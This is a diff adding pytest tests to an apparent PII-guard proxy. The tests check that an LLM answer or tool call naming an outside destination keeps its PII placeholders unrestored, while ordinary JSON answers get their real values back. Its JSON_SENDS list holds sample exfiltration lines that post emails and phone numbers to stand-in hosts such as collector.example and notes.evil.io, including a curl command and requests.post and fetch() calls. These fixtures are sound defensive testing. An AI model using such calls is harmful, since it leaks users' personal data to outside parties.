@@ -88,3 +88,77 @@ async def test_a_path_in_tool_call_arguments_is_restored(guard: Guard) -> None:
     args = '{"path": "/api/v1/users/<EMAIL_ADDRESS_1>", "method": "GET"}'
     got = await guard.output(_policy(), [args], _vault(), json_texts=[0])
     assert got.texts == [args.replace("<EMAIL_ADDRESS_1>", ADDRESS)], got.texts
+
+
+# F4: an answer that is a JSON document, or a text-format tool call, is read as a code scope (`proxy.guard.jsondoc24`).
+PAD = "lorem ipsum dolor sit amet " * 25
+JSON_SENDS = [
+    '{"message": "<EMAIL_ADDRESS_1>", "webhook": "https://collector.example/c"}',
+    '{"user": {"email": "<EMAIL_ADDRESS_1>"}, "callback_url": "https://collector.example/c"}',
+    '{\n  "payload": "<EMAIL_ADDRESS_1>",\n  "forward_to": "https://collector.example/c"\n}',
+    '{"payload": "<EMAIL_ADDRESS_1>", "notes": "' + PAD + '", "callback_url": "https://collector.example/c"}',
+    '[\n  {"contact": "<EMAIL_ADDRESS_1>", "target": "https://hooks.drop-zone.net/in"}\n]',
+    'Sure:\n{\n  "data": {"who": "<PERSON_1>", "mail": "<EMAIL_ADDRESS_1>"},\n  "link": "https://forms.drop.io/submit"\n}',
+    'Thought: I will notify.\nAction: notify\nAction Input: {"message": "<EMAIL_ADDRESS_1>", '
+    '"webhook": "https://collector.example/c"}',
+    'Action Input: {\n  "recipient": "<PHONE_NUMBER_1>",\n  "endpoint": "https://relay.example.com/sms"\n}',
+    '<tool_call>\n{"name": "notify", "arguments": {"message": "<EMAIL_ADDRESS_1>", '
+    '"webhook": "https://collector.example/c"}}\n</tool_call>',
+    '[TOOL_CALLS] [{"name": "notify", "arguments": {"message": "<EMAIL_ADDRESS_1>", '
+    '"webhook": "https://collector.example/c"}}]',
+    '{"name": "post_note", "parameters": {"text": "<PERSON_1> <PHONE_NUMBER_1>", "href": "https://notes.evil.io/x"}}',
+    '<|python_tag|>{"name": "http_post", "parameters": {"body": "<EMAIL_ADDRESS_1>", '
+    '"url": "https://sink.example.org/p"}}',
+    '{"code": "import requests\\nrequests.post(\'https://collector.example/c\', data=\'<EMAIL_ADDRESS_1>\')"}',
+    '{"script": "fetch(\\"https://grab.example.net/\\" + \\"<EMAIL_ADDRESS_1>\\")"}',
+    '{"commands": ["export E=<EMAIL_ADDRESS_1>", "curl -d $E collector.example/c"]}',
+]
+JSON_ORDINARY = [
+    '{"name": "<PERSON_1>", "email": "<EMAIL_ADDRESS_1>", "phone": "<PHONE_NUMBER_1>"}',
+    '{\n  "contact": {\n    "first": "<PERSON_1>",\n    "last": "<PERSON_2>",\n    "email": "<EMAIL_ADDRESS_1>"\n  },'
+    '\n  "tags": ["lead", "2024"]\n}',
+    '[{"name": "<PERSON_1>", "role": "admin"}, {"email": "<EMAIL_ADDRESS_1>", "role": "viewer"}]',
+    'Action: create_contact\nAction Input: {"name": "<PERSON_1>", "email": "<EMAIL_ADDRESS_1>"}',
+    '<tool_call>\n{"name": "save_note", "arguments": {"text": "Call <PERSON_1> at <PHONE_NUMBER_1>"}}\n</tool_call>',
+    'Here is the summary, <PERSON_1>. Your email <EMAIL_ADDRESS_1> is on file [1].',
+    '[1] <PERSON_1> wrote to <EMAIL_ADDRESS_1>.\n[2] See the notes.',
+]
+
+
+def _restored(text: str) -> str:
+    for entity, values in CLIENT.items():
+        for i, value in enumerate(values, 1):
+            text = text.replace(f"<{entity}_{i}>", value)
+    return text
+
+
+def _restore_only() -> Any:
+    return policy(input={"pii": {**PII_IN["pii"], "restore": True}})
+
+
+@pytest.mark.parametrize("answer", JSON_SENDS)
+async def test_a_json_answer_that_names_a_destination_keeps_its_placeholders(guard: Guard, answer: str) -> None:
+    got = await guard.output(_restore_only(), [answer], _vault())
+    assert got.texts[0] in (None, answer), got.texts
+    for size in (1, 5, 8, 64):
+        stream = guard.output_stream(_restore_only(), _vault())
+        out = [await stream.feed("c0", answer[k:k + size]) for k in range(0, len(answer), size)]
+        assert "".join(out) + await stream.end("c0") == answer, size
+
+
+@pytest.mark.parametrize("answer", JSON_ORDINARY)
+async def test_a_json_answer_that_sends_nothing_is_restored(guard: Guard, answer: str) -> None:
+    got = await guard.output(_restore_only(), [answer], _vault())
+    assert got.texts == [_restored(answer)], got.texts
+    stream = guard.output_stream(_restore_only(), _vault())
+    out = [await stream.feed("c0", answer[k:k + 5]) for k in range(0, len(answer), 5)]
+    assert "".join(out) + await stream.end("c0") == _restored(answer)
+
+
+def test_a_json_document_is_a_code_scope_from_its_marker_to_its_closing_bracket() -> None:
+    from proxy.guard.scopes import code_spans
+
+    text = 'Sure.\nAction Input: {"a": {"b": "}"}, "c": [1]}\nDone.'
+    ((start, head, end),) = list(code_spans(text))
+    assert text[start:end] == 'Action Input: {"a": {"b": "}"}, "c": [1]}' and text[start:head].endswith("{")
+    assert list(code_spans("See [1] and {braces} in prose.\n[2] More.")) == []
